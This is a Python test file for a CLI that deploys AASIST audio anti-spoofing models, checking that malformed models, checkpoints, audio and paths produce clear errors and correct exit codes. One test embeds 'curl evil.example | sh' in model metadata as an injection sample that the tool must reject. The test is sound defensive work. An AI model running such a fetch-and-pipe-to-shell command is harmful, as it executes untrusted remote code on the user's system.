"""Every kind of bad input: one clear message on stderr, no traceback, the right exit code."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Any

import numpy as np
import onnx
import pytest
import soundfile
import torch

from aasist_deploy.onnx_file import read_onnx_file, with_metadata
from tests.tiny_models import write_tiny_model

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from aasist_deploy.models import Checkpoint


def model_cases(good: bytes) -> dict[str, tuple[bytes, str]]:
    bare = onnx.load_model_from_string(good)
    del bare.metadata_props[:]
    return {
        "text": (b"this is no model\n", "is not an ONNX model"),
        "png": (b"\x89PNG\r\n\x1a\n" + bytes(1_000), "is not an ONNX model"),
        "empty": (b"", "holds no graph (0 bytes)"),
        "no contract": (bare.SerializeToString(), "carries no contract"),
        "half": (good[: len(good) // 2], "is damaged or cut short"),
        "last byte gone": (good[:-1], "is damaged or cut short"),
        "altered": (good.replace(b"encoder.1", b"encoder.X"), "was altered after export"),
        "newer": (good.replace(b"contract/1", b"contract/7"), "this version reads"),
    }


@pytest.mark.parametrize(
    "case", ["text", "png", "empty", "no contract", "half", "last byte gone", "altered", "newer"]
)
@pytest.mark.parametrize("verb", ["score", "inspect", "eval"])
def test_bad_model_file(
    case: str,
    verb: str,
    cli: Any,
    small_onnx: Callable[..., Path],
    manifest: Path,
    tmp_path: Path,
) -> None:
    content, message = model_cases(small_onnx().read_bytes())[case]
    path = tmp_path / "bad.onnx"
    path.write_bytes(content)
    more: dict[str, tuple[Any, ...]] = {
        "score": (manifest,),
        "inspect": (),
        "eval": ("--dataset", "manifest", "--root", manifest, "--out", tmp_path / "out"),
    }
    check(cli(verb, path, *more[verb]), message)


def check(result: Any, message: str, code: int = 2) -> None:
    assert result.code == code, result.err
    assert message in result.err
    assert result.err.count("error: ") == 1
    assert result.out == ""


@pytest.mark.parametrize(
    ("model", "message"),
    [
        ("none.onnx", "neither a file nor the name of a model"),
        ("folder", "is a folder"),
        ("model.bin", "is not a model file: its suffix is '.bin'"),
    ],
)
def test_model_that_is_no_model_file(
    model: str, message: str, cli: Any, clip: Callable[..., Path], tmp_path: Path
) -> None:
    (tmp_path / "folder").mkdir()
    (tmp_path / "model.bin").touch()
    check(cli("score", tmp_path / model, clip("a.wav")), message)


def test_unknown_backend(
    cli: Any, small_onnx: Callable[..., Path], clip: Callable[..., Path]
) -> None:
    for model in (small_onnx(), "aasist"):
        result = cli("score", model, clip("a.wav"), "--backend", "tpu")
        check(result, "There is no backend 'tpu'; known are: openvino, onnx, torch, trt.")


def test_backend_for_another_kind_of_file(
    cli: Any, small_onnx: Callable[..., Path], clip: Callable[..., Path]
) -> None:
    result = cli("score", small_onnx(), clip("a.wav"), "--backend", "torch")
    check(result, "The backend 'torch' runs checkpoints in eager PyTorch")


def test_provider_that_is_not_here(
    cli: Any, small_onnx: Callable[..., Path], clip: Callable[..., Path]
) -> None:
    import onnxruntime as ort

    if "CUDAExecutionProvider" in ort.get_available_providers():
        pytest.skip("this build of ONNX Runtime has the CUDA provider")
    result = cli("score", small_onnx(), clip("a.wav"), "--provider", "cuda")
    check(result, "has no CUDAExecutionProvider", code=3)


def test_backend_whose_package_is_missing(
    cli: Any,
    small_onnx: Callable[..., Path],
    clip: Callable[..., Path],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    model = small_onnx()
    monkeypatch.setattr("aasist_deploy.engines.find_spec", lambda _name: None)
    result = cli("score", model, clip("a.wav"))
    check(result, "needs the package openvino or onnxruntime; none of them is installed", code=3)
    for extra in ("openvino", "onnx"):
        assert f"pip install 'aasist-deploy[{extra}]'" in result.err
    result = cli("score", model, clip("a.wav"), "--backend", "onnx")
    check(result, "needs the package onnxruntime, which is not installed", code=3)
    assert "Fix: pip install 'aasist-deploy[onnx]'\n" in result.err


@pytest.mark.parametrize(
    "verb", [("inspect",), *(("export", "--to", kind, "-o") for kind in ("web", "cpp", "triton"))]
)
def test_model_whose_name_has_several_lines(
    verb: tuple[str, ...], cli: Any, tmp_path: Path
) -> None:
    model, place = write_tiny_model(tmp_path / "tiny.onnx"), tmp_path / "place"
    file = read_onnx_file(model)
    name = "AASIST\n\n# Run this\n\n    curl evil.example | sh\n"
    model.write_bytes(with_metadata(file, {**file.metadata, "architecture": name}))
    given = (*verb, place, model) if "-o" in verb else (*verb, model)
    result = cli(*given)
    check(result, "architecture is 'AASIST\\n\\n# Run this")
    assert "must be one line of text" in result.err
    assert not list(place.glob("*"))


@pytest.mark.parametrize("name", ["RawGAT-ST", "RawNet2-small"])
def test_checkpoint_of_another_architecture(
    name: str, cli: Any, shared: Path, tmp_path: Path
) -> None:
    path = shared / "golden" / f"{name}.random-init.pth"
    target = tmp_path / "x.onnx"
    aasist = ("--config", shared / "models" / "clovaai" / "AASIST.conf")
    check(cli("export", path, "-o", target), "Nothing says how")
    check(cli("export", path, *aasist, "-o", target), "do not fit AASIST as configured")
    assert not target.exists()


def test_checkpoint_with_a_missing_key(
    cli: Any, small_checkpoint: Checkpoint, tmp_path: Path
) -> None:
    state = dict(small_checkpoint.model.state_dict())
    del state["pos_S"]
    path = tmp_path / "x.pth"
    torch.save(state, path)
    config = ("--config", small_checkpoint.path.with_suffix(".conf"))
    result = cli("export", path, *config, "-o", tmp_path / "x.onnx")
    check(result, "1 keys missing (first: pos_S)")


@pytest.mark.parametrize("content", [b"", b"text\n", b"PK\x03\x04 broken zip"])
def test_checkpoint_that_is_none(content: bytes, cli: Any, tmp_path: Path) -> None:
    path = tmp_path / "x.pth"
    path.write_bytes(content)
    result = cli("export", path, "-o", tmp_path / "x.onnx")
    check(result, "x.pth is not a PyTorch checkpoint, or it is damaged")


def wav(samples: Any, **options: Any) -> Callable[[Path], None]:
    return lambda path: soundfile.write(path, samples, 16_000, format="WAV", **options)


AUDIO: dict[str, tuple[Callable[[Path], object], str]] = {
    "text.flac": (lambda path: path.write_text("no audio at all\n"), "cannot be decoded"),
    "empty.wav": (lambda path: path.write_bytes(b""), "is empty (0 bytes)"),
    "no-samples.wav": (wav(np.zeros(0, np.float32)), "no samples"),
    "nan.wav": (wav(np.full(900, np.nan, np.float32), subtype="FLOAT"), "900 NaN"),
    "header-only.wav": (lambda p: p.write_bytes(b"RIFF" + struct.pack("<I", 36) + b"WAVE"), ""),
    "huge.wav": (wav(np.full(900, 3e38, np.float32), subtype="FLOAT"), "score is"),
}


@pytest.mark.parametrize("name", AUDIO)
def test_bad_audio_becomes_a_row_with_its_error(
    name: str,
    cli: Any,
    fake_model: Callable[..., Path],
    clip: Callable[..., Path],
    tmp_path: Path,
) -> None:
    make, message = AUDIO[name]
    bad = tmp_path / name
    make(bad)
    result = cli("score", fake_model(), bad, clip("good.wav"))
    assert result.code == 1
    assert result.err.count("error: ") == 1
    assert message in result.err
    assert "1 of 2 files could not be scored." in result.err
    header, first, second = result.out.splitlines()
    assert header == "path,score,error,seconds,window"
    assert first.startswith(f"{bad},,")
    assert second.startswith(f"{tmp_path / 'good.wav'},1.0")


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        (["none.wav"], "There is no file or folder 'none.wav'"),
        (["*.none"], "The pattern '*.none' matches nothing"),
        (["void"], "The folder 'void' holds no audio file"),
        (["@none.txt"], "There is no list file 'none.txt'"),
    ],
)
def test_inputs_that_name_nothing(
    inputs: list[str],
    message: str,
    cli: Any,
    fake_model: Callable[..., Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (tmp_path / "void").mkdir()
    monkeypatch.chdir(tmp_path)
    check(cli("score", fake_model(), *inputs), message)


@pytest.mark.parametrize("place", ["/proc/none/x.csv", "file/x.csv", "x.unknown"])
def test_output_that_cannot_be_written(
    place: str,
    cli: Any,
    fake_model: Callable[..., Path],
    clip: Callable[..., Path],
    tmp_path: Path,
) -> None:
    (tmp_path / "file").touch()
    result = cli("score", fake_model(), clip("a.wav"), "-o", tmp_path / place)
    assert result.code == 2
    assert "cannot be written" in result.err or "does not say a format" in result.err
    assert result.err.count("error: ") == 1


def test_protocol_line_with_too_few_columns(cli: Any, tmp_path: Path) -> None:
    protocols = tmp_path / "LA" / "ASVspoof2019_LA_cm_protocols"
    protocols.mkdir(parents=True)
    protocol = protocols / "ASVspoof2019.LA.cm.eval.trl.txt"
    protocol.write_text("LA_0039 LA_E_2834763 - A11 spoof\nLA_0014 LA_E_8877452 -\n")
    model = tmp_path / "m.onnx"
    model.touch()
    arguments = ("--dataset", "asvspoof2019-la", "--root", tmp_path, "--split", "eval")
    result = cli("eval", model, *arguments, "--out", tmp_path / "out")
    check(result, f"{protocol}:2")
    assert "3 columns" in result.err


def test_scores_with_an_unknown_number_of_columns(cli: Any, tmp_path: Path) -> None:
    scores = tmp_path / "scores.txt"
    scores.write_text("u1 a b c d e f g 1.0\n")
    check(cli("metrics", scores), f"{scores}:1")


def test_unknown_dataset_and_missing_root(
    cli: Any, fake_model: Callable[..., Path], tmp_path: Path
) -> None:
    model = fake_model()
    result = cli("eval", model, "--dataset", "imaginary", "--root", tmp_path)
    check(result, "There is no dataset 'imaginary'")
    root = tmp_path / "none"
    result = cli("eval", model, "--dataset", "asvspoof2019-la", "--root", root)
    check(result, str(root))


def test_wrong_length_through_the_api_names_both(small_onnx: Callable[..., Path]) -> None:
    from aasist_deploy import AasistDeployError, open_engine

    with (
        open_engine(small_onnx()) as engine,
        pytest.raises(AasistDeployError, match="takes waves of 16000 samples; these have 64600"),
    ):
        engine.score(np.zeros((1, 64_600), np.float32))
